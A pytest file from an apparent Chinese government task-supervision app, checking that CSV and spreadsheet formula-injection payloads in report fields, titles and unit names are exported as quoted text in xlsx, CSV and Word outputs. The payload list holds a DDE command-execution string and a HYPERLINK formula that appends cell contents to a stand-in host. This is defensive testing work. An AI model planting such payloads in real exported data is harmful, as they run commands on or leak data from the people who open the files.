"""Formula injection (MLPS): text typed as a formula is exported as text, never as a formula.

The payloads go where users and importers put text: a progress report's progress,
problems and next steps, an item's title and a unit's name. Every export is read back:
the report xlsx (all sheets, and its raw XML), the report CSV, the ledger CSV, the bulletin.
The same fixture checks that 报送时间 is Beijing time in the xlsx and the CSV.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import zipfile

import pytest
import time_machine
from docx import Document
from openpyxl import load_workbook

from apps.accounts.models import Profile
from apps.reports import selectors
from apps.reports.bulletin import build_bulletin, chinese_quotes
from apps.reports.services import build_csv
from apps.reports.xlsx import build_xlsx
from apps.supervision import services
from apps.supervision.models import ProgressReport
from apps.supervision.periods import WEEK, period_of
from apps.tracking.cells import FORMULA_STARTS, csv_text, formula_like
from apps.tracking.exports import ledger_csv
from apps.tracking.models import Item, ItemUnit, Unit
from tests.supervision.conftest import make_user, task

PAYLOADS = [
    '=HYPERLINK("http://example.invalid/"&B3,"点击查看附件")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]
SUBMITTED = dt.datetime(2024, 6, 7, 1, 0, tzinfo=dt.UTC)  # 09:00 in Beijing
WEEK23 = period_of(WEEK, dt.date(2024, 6, 7))


@pytest.fixture
def poisoned(plan):
    """Tasks 1–7 titled with a payload each, reported with it, and units renamed to them."""
    office = make_user("duchashi-poison", Profile.Role.SUPERVISOR)
    items = [task(plan, number) for number in range(1, len(PAYLOADS) + 1)]
    with time_machine.travel(SUBMITTED, tick=False):
        for item in items:
            host = next(link.unit for link in item.unit_links.all() if link.role == ItemUnit.Role.HOST)
            services.report_save(
                item=item, unit=host, user=office, period=WEEK23, progress="进展", percent=30, submit=True
            )
    for item, payload in zip(items, PAYLOADS, strict=True):
        # Written directly: the form strips leading tabs and line breaks, an import need not.
        ProgressReport.objects.filter(item=item).update(
            progress=payload, problems=payload, next_steps=payload
        )
        Item.objects.filter(pk=item.pk).update(title=payload, light=Item.Light.RED)
    units = list(
        Unit.objects.filter(item_links__item__in=items, item_links__role=ItemUnit.Role.HOST)
        .distinct()
        .order_by("pk")
    )
    for unit, payload in zip(units, PAYLOADS, strict=False):
        Unit.objects.filter(pk=unit.pk).update(name=payload)
    return plan


def report_of(plan):
    with time_machine.travel(SUBMITTED, tick=False):
        return selectors.period_report(plan=plan, period=WEEK23)


def test_xlsx_never_holds_a_formula(poisoned):
    data = build_xlsx(report_of(poisoned))
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/")]
    assert sheets and not any(re.search(rb"<f[ >]", xml) for xml in sheets)
    book = load_workbook(io.BytesIO(data))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    risky = [cell for cell in cells if formula_like(cell.value)]
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in risky)
    ledger = book["任务台账"]
    header = [c.value for c in ledger[2]]
    rows = [[c.value for c in row] for row in ledger.iter_rows(min_row=3)]
    by_number = {row[0]: dict(zip(header, row, strict=True)) for row in rows}
    for number, payload in enumerate(PAYLOADS, start=1):
        line = by_number[number]
        assert line["任务（摘要）"] == line["本期进展"] == line["存在问题"] == line["下步打算"] == payload
        assert line["报送时间"] == "06-07 09:00"  # Beijing time, not the stored 01:00 UTC
    hosts = {value for line in by_number.values() for value in line["主办单位"].split("、")}
    assert set(PAYLOADS[:3]) <= hosts  # the renamed units are kept, not dropped
    summary_units = {row[0].value for row in book["汇总"].iter_rows()}
    assert set(PAYLOADS[:3]) <= summary_units


def test_report_csv_quotes_formulas_and_keeps_the_text(poisoned):
    text = build_csv(report_of(poisoned)).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    fields = [value for row in rows for value in row.values()]
    assert not [value for value in fields if value.startswith(FORMULA_STARTS)]
    tasks = {row["序号"]: row for row in rows if row["类别"] == "任务"}
    for number, payload in enumerate(PAYLOADS, start=1):
        row = tasks[str(number)]
        assert row["任务（摘要）"] == row["本期进展"] == row["存在问题"] == row["下步打算"] == f"'{payload}"
        assert row["报送时间"] == "2024-06-07 09:00"
        assert row["亮灯"] == "红灯"


def test_ledger_csv_quotes_formulas_and_keeps_the_text(poisoned):
    rows = list(csv.DictReader(io.StringIO(ledger_csv([poisoned]).lstrip("\ufeff"))))
    fields = [value for row in rows for value in row.values()]
    assert not [value for value in fields if value.startswith(FORMULA_STARTS)]
    titles = {row["简称"] for row in rows if row["类别"] == "任务"}
    assert {f"'{payload}" for payload in PAYLOADS} <= titles
    hosts = {row["主办单位"].split("、")[0] for row in rows}
    assert {f"'{payload}" for payload in PAYLOADS[:3]} <= hosts


def test_bulletin_keeps_the_text_and_has_no_fields(poisoned):
    data = build_bulletin(report_of(poisoned))
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        xml = archive.read("word/document.xml")
    # Word runs code only through field codes (DDE, HYPERLINK fields); the bulletin has none.
    assert b"fldSimple" not in xml and b"instrText" not in xml and b"fldChar" not in xml
    text = "\n".join(p.text for p in Document(io.BytesIO(data)).paragraphs)
    assert "存在问题：=HYPERLINK(“http://example.invalid/”&B3,“点击查看附件”)。" in text
    assert "任务1“=HYPERLINK(‘http://example.invalid/’&B3,‘点击查看附件’)”" in text
    for payload in PAYLOADS[1:5]:
        assert f"存在问题：{chinese_quotes(payload)}。" in text


def test_csv_text_rule():
    assert [csv_text(value) for value in [*PAYLOADS, "区商务局", "", None, 12, "a=b"]] == [
        *(f"'{payload}" for payload in PAYLOADS),
        "区商务局",
        "",
        "",
        "12",
        "a=b",
    ]
